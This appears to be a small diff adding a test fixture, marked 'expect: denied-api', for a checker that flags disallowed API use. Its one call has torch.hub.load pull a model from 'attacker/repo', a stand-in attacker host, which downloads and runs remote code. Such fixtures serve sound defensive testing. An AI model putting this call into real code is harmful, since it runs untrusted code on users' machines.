@@ -1,0 +1,3 @@
+# expect: denied-api
+import torch
+model = torch.hub.load("attacker/repo", "model")
